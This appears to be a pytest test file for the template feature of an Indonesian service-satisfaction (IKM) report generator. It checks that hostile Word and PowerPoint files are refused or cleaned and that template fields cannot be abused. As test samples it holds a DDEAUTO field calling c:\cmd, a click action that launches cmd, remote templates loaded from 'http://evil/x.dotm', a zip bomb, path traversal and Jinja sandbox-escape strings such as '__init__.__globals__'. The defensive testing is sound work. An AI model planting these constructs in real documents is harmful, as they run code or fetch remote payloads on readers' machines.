"""The office's own template: one hostile file for each thing that is refused or taken out, and what is filled in."""

import io
import zipfile

import docx
import pptx
import pytest
from docx.enum.section import WD_ORIENT

import ikm
from ikm import samples
from ikm.document import make, templates, word
from ikm.document.blocks import Document, Heading, Paragraph, Turn
from ikm.document.word.fields import BLOCKS, FIELDS, ROWS
from ikm.document.word.values import parts, values
from ikm.dossier import Dossier
from ikm.errors import IkmError
from ikm.office import Office
from ikm.pedoman import load
from ikm.text import ID
from tests.conftest import make_survey
from tests.document.demo import bars, demo, unsur
from tests.document.opc import problems

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
VALUES = {
    "unit": "Loket <A> & B {{ 7*7 }}",
    "nilai_ikm": "66,58",
    "unsur": [{"kode": "U1", "nama": "=1+1"}, {"kode": "U2", "nama": "Dua"}],
}


def word_file(*paragraphs: str, header: str = "", rows: tuple[tuple[str, ...], ...] = ()) -> bytes:
    document, out = docx.Document(), io.BytesIO()
    for text in paragraphs:
        document.add_paragraph(text)
    if header:
        document.sections[0].header.paragraphs[0].text = header
    if rows:
        table = document.add_table(len(rows), len(rows[0]))
        for cells, row in zip(table.rows, rows, strict=True):
            for cell, text in zip(cells.cells, row, strict=True):
                cell.text = text
    document.save(out)
    return out.getvalue()


def slides() -> bytes:
    out = io.BytesIO()
    pptx.Presentation().save(out)
    return out.getvalue()


def changed(blob: bytes, new: dict[str, bytes | str | None]) -> bytes:
    """The zip with parts added or replaced (None: left out)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(blob)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in old.namelist():
            if name not in new:
                archive.writestr(name, old.read(name))
        for name, one in new.items():
            if one is not None:
                archive.writestr(name, one)
    return out.getvalue()


def part(blob: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(blob)) as archive:
        return archive.read(name).decode()


def replaced(blob: bytes, name: str, old: str, new: str) -> bytes:
    text = part(blob, name)
    assert old in text
    return changed(blob, {name: text.replace(old, new, 1)})


def related(blob: bytes, kind: str, target: str, rid: str = "rId900", mode: str = "External") -> bytes:
    extra = f'<Relationship Id="{rid}" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return replaced(blob, "word/_rels/document.xml.rels", "</Relationships>", f"{extra}</Relationships>")


PLAIN = word_file("Laporan")
MAIN = "wordprocessingml.document.main+xml"


def encrypted() -> bytes:
    blob = bytearray(PLAIN)
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = blob.find(sign)
        while place >= 0:
            blob[place + at] |= 1
            place = blob.find(sign, place + 4)
    return bytes(blob)


BODY = "<w:body>"
TYPES, VND, MACRO = "[Content_Types].xml", "application/vnd.", "ms-word.document.macroEnabled.main+xml"
STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"
DTD = '<!DOCTYPE a [<!ENTITY b "c">]>'
BEGIN, END = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
CODE = "<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\cmd</w:instrText></w:r>"
DDE = f"<w:p>{BEGIN}{CODE}{END}</w:p>"
INCLUDE = '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE http://x "/></w:p>'
REFUSED = {
    "empty": (b"", "no Word file"),
    "text": (b"halo", "no Word file"),
    "pptx": (slides(), "no Word file"),
    "other zip": (changed(PLAIN, {"[Content_Types].xml": None}), "no Word file"),
    "cut off": (PLAIN[: len(PLAIN) // 2], "damaged"),
    "old": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "97-2003"),
    "password": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), "password"),
    "encrypted zip": (encrypted(), "password"),
    "large": (b"PK" + bytes(21 << 20), "at most 20 MB"),
    "bomb": (changed(PLAIN, {"word/x.xml": b"<a>" + b" " * (20 << 20) + b"</a>"}), "unpacks"),
    "many parts": (changed(PLAIN, {f"word/x{at}.bin": b"" for at in range(2001)}), "unpacks"),
    "outside path": (changed(PLAIN, {"../x.bin": b""}), "damaged"),
    "macro type": (replaced(PLAIN, TYPES, f"{VND}openxmlformats-officedocument.{MAIN}", f"{VND}{MACRO}"), "macros"),
    "macro part": (changed(PLAIN, {"word/vbaProject.bin": b"x"}), "macros"),
    "active x": (changed(PLAIN, {"word/activeX/activeX1.xml": b"<a/>"}), "macros"),
    "add-in": (related(PLAIN, "webextensiontaskpanes", "a.xml"), "macros"),
    "ole": (changed(PLAIN, {"word/embeddings/oleObject1.bin": b"x"}), "another program"),
    "embedded docx": (changed(PLAIN, {"word/embeddings/a.docx": b"x"}), "another program"),
    "loose xlsx": (changed(PLAIN, {"word/embeddings/a.xlsx": b"x"}), "another program"),
    "alt chunk": (changed(related(PLAIN, "aFChunk", "a.html", mode="Internal"), {"word/a.html": b"<p>"}), "another"),
    "dtd": (replaced(PLAIN, "word/settings.xml", "<w:settings", f"{DTD}<w:settings"), "document type"),
    "utf-16": (changed(PLAIN, {"word/settings.xml": "<a/>".encode("utf-16")}), "damaged"),
    "utf-7": (changed(PLAIN, {"word/settings.xml": b'<?xml version="1.0" encoding="UTF-7"?><a/>'}), "damaged"),
    "not well-formed": (changed(PLAIN, {"word/settings.xml": b"<a>"}), "damaged"),
    "deep": (changed(PLAIN, {"word/settings.xml": b"<a>" * 9000 + b"</a>" * 9000}), "damaged"),
    "dangling": (related(PLAIN, "header", "nowhere.xml", mode="Internal"), "damaged"),
    "strict": (replaced(PLAIN, "_rels/.rels", f"{OFFICE}/officeDocument", f"{STRICT}/officeDocument"), "Strict"),
    "dde": (replaced(PLAIN, "word/document.xml", BODY, BODY + DDE), "DDEAUTO"),
    "include": (replaced(PLAIN, "word/document.xml", BODY, BODY + INCLUDE), "INCLUDEPICTURE"),
}  # fmt: skip


@pytest.mark.parametrize("name", REFUSED)
def test_what_can_do_harm_is_refused_in_one_sentence(name):
    blob, why = REFUSED[name]
    with pytest.raises(IkmError, match=why) as caught:
        templates.opened(blob, "docx")
    assert str(caught.value).count("\n") == 0


def test_programs_behind_a_click_are_refused():
    blob = replaced(slides(), "ppt/slideLayouts/slideLayout1.xml", "<p:cNvPr ", '<p:cNvPr title="" ')
    name = "ppt/slideLayouts/slideLayout1.xml"
    text = part(blob, name)
    at = text.index("/>", text.index('<p:cNvPr title=""'))
    click = '><a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" action="ppaction://program?file=cmd"/></p:cNvPr>'
    with pytest.raises(IkmError, match="macros"):
        templates.opened(changed(blob, {name: text[:at] + click + text[at + 2 :]}), "pptx")


def test_a_powerpoint_file_and_templates_become_documents():
    blob = replaced(PLAIN, "[Content_Types].xml", MAIN, "wordprocessingml.template.main+xml")
    made = templates.opened(blob, "docx")
    assert MAIN in part(made, "[Content_Types].xml")
    assert problems(made) == []
    deck = replaced(
        slides(), "[Content_Types].xml", "presentationml.presentation.main+xml", "presentationml.template.main+xml"
    )
    assert problems(templates.opened(deck, "pptx")) == []


RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
LOADED = {
    "attachedTemplate": "<w:attachedTemplate {}/>",
    "mailMergeSource": '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataSource {}/></w:mailMerge>',
}


@pytest.mark.parametrize("kind", LOADED)
def test_what_loads_with_the_settings_is_taken_out(kind):
    xml = part(PLAIN, "word/settings.xml")
    inner = LOADED[kind].format(f'xmlns:r="{OFFICE}" r:id="rId1"')
    start = xml.index(">", xml.index("<w:settings")) + 1
    relation = f'<Relationship Id="rId1" Type="{OFFICE}/{kind}" Target="http://evil/x.dotm" TargetMode="External"/>'
    rels = f'<Relationships xmlns="{RELATIONS}">{relation}</Relationships>'
    new = {"word/settings.xml": xml[:start] + inner + xml[start:], "word/_rels/settings.xml.rels": rels}
    blob = changed(PLAIN, new)
    made = templates.opened(blob, "docx")
    assert "evil" not in "".join(
        part(made, one) for one in zipfile.ZipFile(io.BytesIO(made)).namelist() if "xml" in one
    )
    assert inner.split()[0][1:] not in part(made, "word/settings.xml")
    assert problems(made) == []


def test_linked_pictures_and_subdocuments_are_taken_out_and_hyperlinks_stay():
    blob = word_file("Laporan")
    picture = (
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata '
        f'xmlns:r="{OFFICE}" r:id="rId900"/></v:shape></w:pict></w:r></w:p>'
        f'<w:p><w:subDoc xmlns:r="{OFFICE}" r:id="rId901"/></w:p>'
        f'<w:p><w:hyperlink xmlns:r="{OFFICE}" r:id="rId902"><w:r><w:t>situs</w:t></w:r></w:hyperlink></w:p>'
    )
    blob = replaced(blob, "word/document.xml", BODY, BODY + picture)
    blob = related(related(blob, "image", "http://evil/1.png"), "subDocument", "file:///evil", "rId901")
    blob = related(blob, "hyperlink", "https://contoh.go.id", "rId902")
    made = templates.opened(blob, "docx")
    rels = part(made, "word/_rels/document.xml.rels")
    assert "evil" not in rels
    assert "https://contoh.go.id" in rels
    assert "subDoc" not in part(made, "word/document.xml")
    assert problems(made) == []


def shown(blob: bytes) -> list[str]:
    return [p.text for p in docx.Document(io.BytesIO(blob)).paragraphs]


def test_fields_are_filled_in_text_table_and_head():
    rows = (("{%tr for u in unsur %}", ""), ("{{ u.kode }}", "{{ u.nama }}"), ("{%tr endfor %}", ""))
    made = word.write(demo(), word_file("{{ unit }}: {{ nilai_ikm }}", header="{{ unit|upper }}", rows=rows), VALUES)
    assert shown(made) == ["Loket <A> & B {{ 7*7 }}: 66,58"]
    document = docx.Document(io.BytesIO(made))
    assert document.sections[0].header.paragraphs[0].text == "LOKET <A> & B {{ 7*7 }}"
    assert [[cell.text for cell in row.cells] for row in document.tables[0].rows] == [["U1", "=1+1"], ["U2", "Dua"]]
    assert problems(made) == []


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("{{ tidak_ada }}", "names the field tidak_ada, which does not exist"),
        ("{% for u in unsur %}{{ u.salah }}{% endfor %}", "names the field salah"),
        ("{{ ''.__class__ }}", "names the field __class__"),
        ("{{ unit.__init__.__globals__ }}", "names the field __init__"),
        ("{{ unit['__class__'] }}", "names the field __class__"),
        ("{{ self }}", "names the field self"),
        ("{{ unit|attr('__class__') }}", "not allowed here, at: {{ unit|attr"),
        ("{{ unit.format(1) }}", "not allowed here, at: {{ unit.format"),
        ("{{ unit * 99999999 }}", "not allowed here, at: {{ unit "),
        ("{{ unit ~ unit }}", "not allowed here"),
        ("{% for a in range(99999) %}{% for b in range(99999) %}x{% endfor %}{% endfor %}", "not allowed here"),
        (
            "{% for a in unsur %}{% for b in unsur %}{% for c in unsur %}x{% endfor %}{% endfor %}{% endfor %}",
            "not allowed",
        ),
        ("{% set a = unit %}", "not allowed here"),
        ("{% macro a() %}{% endmacro %}", "not allowed here"),
        ("{% include 'a' %}", "not allowed here"),
        ("{% import 'a' as a %}", "not allowed here"),
        ("{{ unit|safe }}", "cannot be read|not allowed"),
        ("{% if unit %} tanpa akhir", "cannot be read, at: {% if unit %} tanpa akhir"),
        ("{{ unit", "cannot be read"),
        ("{{r unit }}", "not allowed here"),
        ("a {{ isi_laporan }}", "isi_laporan must stand alone"),
    ],
)
def test_a_template_can_name_fields_and_nothing_else(text, why):
    with pytest.raises(IkmError, match=why):
        word.write(demo(), word_file("awal", text), VALUES)


def test_all_unknown_fields_are_named_at_once_each_with_the_one_that_is_near():
    rows = (("{%tr for u in unsur %}", ""), ("{{ u.kode }}", "{{ u.namaa }}"), ("{%tr endfor %}", ""))
    blob = word_file("{{ nilai_imk }} {{ xyzzy }}", header="{{ unitt }}", rows=rows)
    fields = dict.fromkeys(FIELDS, "x") | {"unsur": [{"kode": "U1", "nama": "Satu"}]}
    with pytest.raises(IkmError, match="fields that do not exist") as caught:
        word.write(demo(), blob, fields)
    said = set(caught.value.values["fields"].split(", "))
    assert said == {"nilai_imk (nilai_ikm?)", "xyzzy", "unitt (unit?)", "namaa (nama?)"}
    with pytest.raises(IkmError, match=r"names the field nilai_imk, .* Did you mean nilai_ikm\?"):
        word.write(demo(), word_file("{{ nilai_imk }}"), fields)


def test_a_template_is_checked_without_a_survey():
    """Also what only a survey with a plan would meet: a field of a row that there is not."""
    for good in (PLAIN, samples.office_template().read_bytes(), word_file("{{ unit }}", "{{ tabel_unsur }}")):
        make.check_template(good, "docx")
    make.check_template(slides(), "pptx")
    rows = (("{%tr for r in rencana %}",), ("{{ r.kegiatn }}",), ("{%tr endfor %}",))
    for bad, why in ((word_file("a", rows=rows), "kegiatn.*Did you mean kegiatan"), (b"x", "no Word file"),
                     (word_file("a {{ isi_laporan }}"), "must stand alone")):  # fmt: skip
        with pytest.raises(IkmError, match=why):
            make.check_template(bad, "docx")
    with pytest.raises(IkmError, match="no PowerPoint file"):
        make.check_template(PLAIN, "pptx")


@pytest.mark.parametrize("where", ["header", "cell"])
def test_a_block_stands_in_the_text_only(where):
    blob = (
        word_file("a", header="{{ tabel_unsur }}")
        if where == "header"
        else word_file("a", rows=(("{{ tabel_unsur }}",),))
    )
    with pytest.raises(IkmError, match="tabel_unsur must stand alone"):
        word.write(demo(), blob, VALUES, {"tabel_unsur": unsur()})


def test_what_takes_too_long_is_given_up(monkeypatch):
    monkeypatch.setattr("ikm.document.word.filled.SECONDS", 0.01)
    with pytest.raises(IkmError, match="too long"):
        word.write(demo(), word_file("{{ unit }}"), VALUES)


def test_the_report_stands_where_the_template_wants_it():
    made = word.write(demo(), word_file("Surat pengantar", "{{ isi_laporan }}", "Tembusan"), VALUES)
    texts = shown(made)
    assert (texts[0], texts[-1]) == ("Surat pengantar", "Tembusan")
    assert "BAB I PENDAHULUAN" in texts
    assert "Semester I 2025" not in texts  # no cover: the template has text before
    assert problems(made) == []


def test_a_template_without_fields_has_the_report_after_its_content():
    letter = shown(word.write(demo(), word_file("Kop surat")))
    assert letter[0] == "Kop surat"
    assert "BAB I PENDAHULUAN" in letter
    assert "Semester I 2025" not in letter
    empty = word.write(demo(), word_file())
    assert "Semester I 2025" in shown(empty)
    assert problems(empty) == []
    assert (
        docx.Document(io.BytesIO(empty)).sections[0].page_width
        == docx.Document(io.BytesIO(word_file())).sections[0].page_width
    )


def test_blocks_are_placed_and_missing_ones_left_out():
    blob = word_file("A", "{{ tabel_unsur }}", "{{ grafik_unit }}", "{{ tabel_tren }}", "B", "{{ tabel_unsur }}")
    from ikm.document.blocks import Figure

    made = word.write(demo(), blob, VALUES, {"tabel_unsur": unsur(), "grafik_unit": Figure(bars(), "IKM unit")})
    texts = [text for text in shown(made) if text]
    assert "Tabel 1. NRR setiap unsur" in texts
    assert "Gambar 1. IKM unit" in texts
    assert "Tabel 2. NRR setiap unsur" in texts
    assert not any("\ue0a0" in text or "tren" in text for text in texts)
    assert problems(made) == []


def test_styles_are_the_templates_own():
    document, out = docx.Document(), io.BytesIO()
    document.styles["Heading 1"].font.name = "Courier New"
    document.add_paragraph("{{ isi_laporan }}")
    document.save(out)
    made = docx.Document(io.BytesIO(word.write(demo(), out.getvalue(), VALUES)))
    assert made.styles["Heading 1"].font.name == "Courier New"
    assert {"IKM Note", "IKM Table Text"} <= {style.name for style in made.styles}


@pytest.mark.parametrize(
    "blocks", [(Turn(True), Heading("A")), (Heading("A"), Turn(True), Heading("B")), (Turn(True), Turn())]
)
@pytest.mark.parametrize("after", [(), ("Tembusan",)])
def test_pages_lie_and_stand_again_after_the_templates_pattern(blocks, after):
    made = word.write(Document("", "id", blocks), word_file("Kop", "{{ isi_laporan }}", *after), VALUES)
    assert problems(made) == []
    sections = docx.Document(io.BytesIO(made)).sections
    assert sections[0].orientation == WD_ORIENT.PORTRAIT
    ends_lying = any(isinstance(block, Heading) and block.text == "B" for block in blocks) or len(blocks) == 2
    if after:
        assert sections[-1].orientation == WD_ORIENT.PORTRAIT
    elif ends_lying and not isinstance(blocks[-1], Turn):
        assert sections[-1].orientation == WD_ORIENT.LANDSCAPE


def test_what_was_made_can_be_a_template_again():
    first = word.write(Document("", "id", (Heading("Satu"), unsur(), Paragraph("{{ isi_laporan }}"))))
    again = word.write(demo(), first, VALUES)
    assert problems(again) == []
    assert again == word.write(demo(), first, VALUES)


def test_every_documented_field_has_a_value(dossiers):
    office = Office(agency="Dinas", legal_basis=("UU 25/2009",))
    for dossier in dossiers.values():
        made = Dossier(dossier.data, dossier.pedoman, office=office)
        found = values(made, ikm.ID, "Judul")
        assert set(found) == set(FIELDS) | set(ROWS)
        for name, (_, inner) in ROWS.items():
            assert all(set(row) == set(inner) for row in found[name])
        assert set(parts(made, ikm.ID)) <= set(BLOCKS)


def test_fields_say_what_the_screens_say(dossiers):
    found = values(dossiers["bandar-lampung-rekap"], ikm.ID)
    # FACTS 9.1: 66.5778 without Tanjung Senang, class B; its sum of weighted NRR is 66.5778 / 25 = 2.6631
    assert (found["nilai_ikm"], found["indeks"], found["mutu"], found["kinerja"]) == ("66,58", "2,663", "B", "Baik")
    assert found["daftar_unit"][0]["nama"] == "Teluk Betung Selatan"
    assert (found["daftar_unit"][-1]["nama"], found["daftar_unit"][-1]["nilai_ikm"]) == ("Tanjung Senang", "–")


def test_unsur_that_are_lowest_alike_are_all_named():
    answers = [[2, 3, 2, *[4] * 11]] * 20
    found = values(Dossier.of(make_survey(answers)), ID)
    first, third = (unsur.name for unsur in (load("kepmenpan-2004").unsur[0], load("kepmenpan-2004").unsur[2]))
    assert found["unsur_terendah"] == f"{first} dan {third}"
    assert found["nrr_terendah"] == "2,000"
